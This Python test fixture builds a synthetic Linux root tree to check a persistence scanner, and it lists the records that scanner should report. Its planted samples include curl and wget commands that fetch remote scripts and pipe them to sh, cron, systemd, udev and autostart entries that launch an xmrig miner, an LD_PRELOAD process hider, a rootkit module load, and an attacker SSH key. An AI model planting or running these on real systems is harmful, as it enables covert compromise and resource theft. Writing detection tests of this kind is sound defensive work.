"""A root tree with one entry in each persistence location, and the records it must yield.

Built by the tests (nothing on disk in the repo), so names can hold non-UTF-8 bytes.
Expected entries are (mechanism, source, line, command), written by hand from the files.
"""

import base64
import os
from pathlib import Path

KEY = base64.b64encode(b"\0\0\0\x0bssh-ed25519\0\0\0\x20" + bytes(range(32))).decode()
AT_JOB = """#!/bin/sh
# atrun uid=1000 gid=1000
# mail alice 0
umask 22
PATH=/usr/bin:/bin; export PATH
cd /home/alice || {
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}
${SHELL:-/bin/sh} << 'marcinDELIMITER0f1e2d3c'
wget -q -O- http://203.0.113.9/s.sh | sh
marcinDELIMITER0f1e2d3c
"""

FILES: dict[str, bytes | str] = {
    "/etc/passwd": (
        "root:x:0:0:root:/root:/bin/bash\n"
        "alice:x:1000:1000:Alice:/home/alice:/bin/bash\n"
        "svc:x:999:999::/nonexistent:/usr/sbin/nologin\n"
    ),
    "/etc/crontab": (
        "SHELL=/bin/sh\n# m h dom mon dow user command\n"
        "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"
    ),
    "/etc/cron.d/miner": "*/5 * * * * root /tmp/.x/xmrig -o pool.example:3333\n",
    "/etc/cron.d/\udcff-job": b"@reboot root /opt/\xe9/run.sh\n",
    "/etc/cron.hourly/update": "#!/bin/sh\ncurl -s http://203.0.113.9/u | sh\n",
    "/etc/cron.daily/logrotate": "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n",
    "/etc/cron.weekly/man-db": "#!/bin/sh\nexit 0\n",
    "/etc/cron.monthly/kworker": b"\x7fELF\x02\x01\x01 synthetic binary",
    "/var/spool/cron/crontabs/alice": "* * * * * curl -fsSL http://203.0.113.9/x.sh | sh\n",
    "/var/spool/cron/root": "0 * * * * /usr/local/bin/backup\n",
    "/var/spool/cron/atjobs/a0000101a2b3c4": AT_JOB,
    "/var/spool/cron/atjobs/.SEQ": "1\n",
    "/etc/anacrontab": "SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n",
    "/etc/systemd/system/miner.service": (
        "[Unit]\nDescription=System helper\n[Service]\nExecStartPre=/bin/mkdir -p /tmp/.x\n"
        "ExecStart=/tmp/.x/xmrig \\\n  --donate-level 0\nUser=alice\n[Install]\n"
        "WantedBy=multi-user.target\n"
    ),
    "/etc/systemd/system/backup.timer": (
        "[Timer]\nOnCalendar=daily\nPersistent=true\n[Install]\nWantedBy=timers.target\n"
    ),
    "/etc/systemd/system/ssh.service.d/override.conf": (
        "[Service]\nExecStart=\nExecStart=/usr/sbin/sshd -D -p 2222\n"
    ),
    "/usr/lib/systemd/system/vendor.service": "[Service]\nExecStart=/usr/bin/vendord\n",
    "/home/alice/.config/systemd/user/agent.service": "[Service]\nExecStart=%h/.local/bin/a\n",
    "/etc/init.d/miner": "#!/bin/sh\n### BEGIN INIT INFO\n/tmp/.x/xmrig &\n",
    "/etc/rc.local": "#!/bin/sh -e\n/tmp/.x/xmrig &\nexit 0\n",
    "/etc/profile": "export PATH=/usr/bin:/bin\n",
    "/etc/profile.d/proxy.sh": "export LD_PRELOAD=/lib/libhide.so\n",
    "/etc/bash.bashrc": "alias ls='ls --color'\n",
    "/root/.bashrc": "# .bashrc\n(curl -s http://203.0.113.9/b | sh) &\n",
    "/home/alice/.profile": "[ -f ~/.bashrc ] && . ~/.bashrc\n",
    "/home/alice/.bash_profile": "export EDITOR=vi\n",
    "/home/alice/.zshrc": "nohup ~/.cache/.x/run >/dev/null 2>&1 &\n",
    "/etc/ld.so.preload": "/usr/local/lib/libprocesshider.so\n",
    "/root/.ssh/authorized_keys": (
        f"ssh-ed25519 {KEY} admin@laptop\n"
        f'command="/tmp/.x/xmrig",no-pty ssh-ed25519 {KEY} attacker\n'
    ),
    "/home/alice/.ssh/authorized_keys": f"ssh-ed25519 {KEY} alice@desk\n",
    "/etc/udev/rules.d/99-net.rules": (
        'ACTION=="add", SUBSYSTEM=="net", RUN+="/tmp/.x/xmrig"\nSUBSYSTEM=="usb", MODE="0666"\n'
    ),
    "/etc/modules-load.d/extra.conf": "# modules\ndiamorphine\n",
    "/etc/update-motd.d/00-header": "#!/bin/sh\nuname -a\n",
    "/etc/xdg/autostart/helper.desktop": (
        "[Desktop Entry]\nType=Application\nExec=/tmp/.x/xmrig\n"
    ),
    "/home/alice/.config/autostart/sync.desktop": "[Desktop Entry]\nExec=/home/alice/sync\n",
}

LINKS = {
    "/etc/systemd/system/multi-user.target.wants/miner.service": (
        "/etc/systemd/system/miner.service"
    ),
    "/etc/systemd/system/timers.target.wants/backup.timer": "/etc/systemd/system/backup.timer",
    "/etc/systemd/system/ctrl-alt-del.target": "/dev/null",
    "/etc/systemd/system/default.target.wants/miner.service": "../miner.service",
}

EXPECTED: set[tuple[str, str, int | None, str | None]] = {
    ("cron", "/etc/crontab", 1, None),
    ("cron", "/etc/crontab", 3, "cd / && run-parts --report /etc/cron.hourly"),
    ("cron", "/etc/cron.d/miner", 1, "/tmp/.x/xmrig -o pool.example:3333"),
    ("cron", "/etc/cron.d/\udcff-job", 1, "/opt/\udce9/run.sh"),
    ("cron", "/etc/cron.hourly/update", None, "/etc/cron.hourly/update"),
    ("cron", "/etc/cron.daily/logrotate", None, "/etc/cron.daily/logrotate"),
    ("cron", "/etc/cron.weekly/man-db", None, "/etc/cron.weekly/man-db"),
    ("cron", "/etc/cron.monthly/kworker", None, "/etc/cron.monthly/kworker"),
    ("cron", "/var/spool/cron/crontabs/alice", 1, "curl -fsSL http://203.0.113.9/x.sh | sh"),
    ("cron", "/var/spool/cron/root", 1, "/usr/local/bin/backup"),
    ("at", "/var/spool/cron/atjobs/a0000101a2b3c4", 11, "wget -q -O- http://203.0.113.9/s.sh | sh"),
    ("anacron", "/etc/anacrontab", 1, None),
    ("anacron", "/etc/anacrontab", 2, "run-parts --report /etc/cron.daily"),
    ("systemd", "/etc/systemd/system/miner.service", 4, "/bin/mkdir -p /tmp/.x"),
    ("systemd", "/etc/systemd/system/miner.service", 5, "/tmp/.x/xmrig --donate-level 0"),
    ("systemd", "/etc/systemd/system/backup.timer", 2, "backup.service"),
    ("systemd", "/etc/systemd/system/ssh.service.d/override.conf", 2, ""),
    ("systemd", "/etc/systemd/system/ssh.service.d/override.conf", 3, "/usr/sbin/sshd -D -p 2222"),
    ("systemd", "/usr/lib/systemd/system/vendor.service", 2, "/usr/bin/vendord"),
    ("systemd", "/home/alice/.config/systemd/user/agent.service", 2, "%h/.local/bin/a"),
    *(("systemd", link, None, target) for link, target in LINKS.items() if target[0] == "/"),
    (
        "systemd",
        "/etc/systemd/system/default.target.wants/miner.service",
        None,
        "/etc/systemd/system/miner.service",
    ),
    ("init.d", "/etc/init.d/miner", None, "/etc/init.d/miner"),
    ("rc.local", "/etc/rc.local", 2, "/tmp/.x/xmrig &"),
    ("rc.local", "/etc/rc.local", 3, "exit 0"),
    ("shell-rc", "/etc/profile", 1, "export PATH=/usr/bin:/bin"),
    ("shell-rc", "/etc/profile.d/proxy.sh", 1, "export LD_PRELOAD=/lib/libhide.so"),
    ("shell-rc", "/etc/bash.bashrc", 1, "alias ls='ls --color'"),
    ("shell-rc", "/root/.bashrc", 2, "(curl -s http://203.0.113.9/b | sh) &"),
    ("shell-rc", "/home/alice/.profile", 1, "[ -f ~/.bashrc ] && . ~/.bashrc"),
    ("shell-rc", "/home/alice/.bash_profile", 1, "export EDITOR=vi"),
    ("shell-rc", "/home/alice/.zshrc", 1, "nohup ~/.cache/.x/run >/dev/null 2>&1 &"),
    ("ld.so.preload", "/etc/ld.so.preload", 1, "/usr/local/lib/libprocesshider.so"),
    ("authorized_keys", "/root/.ssh/authorized_keys", 1, None),
    ("authorized_keys", "/root/.ssh/authorized_keys", 2, "/tmp/.x/xmrig"),
    ("authorized_keys", "/home/alice/.ssh/authorized_keys", 1, None),
    ("udev", "/etc/udev/rules.d/99-net.rules", 1, "/tmp/.x/xmrig"),
    ("modules-load", "/etc/modules-load.d/extra.conf", 2, "diamorphine"),
    ("motd", "/etc/update-motd.d/00-header", None, "/etc/update-motd.d/00-header"),
    ("xdg-autostart", "/etc/xdg/autostart/helper.desktop", 3, "/tmp/.x/xmrig"),
    ("xdg-autostart", "/home/alice/.config/autostart/sync.desktop", 2, "/home/alice/sync"),
}


def build_root(base: Path, files: dict[str, bytes | str] | None = None) -> Path:
    for name, content in (FILES if files is None else files).items():
        path = Path(os.fsdecode(base)) / name.lstrip("/")
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(
            content.encode("utf-8", "surrogateescape") if isinstance(content, str) else content
        )
    if files is None:
        for link, target in LINKS.items():
            path = base / link.lstrip("/")
            path.parent.mkdir(parents=True, exist_ok=True)
            path.symlink_to(target)
    return base
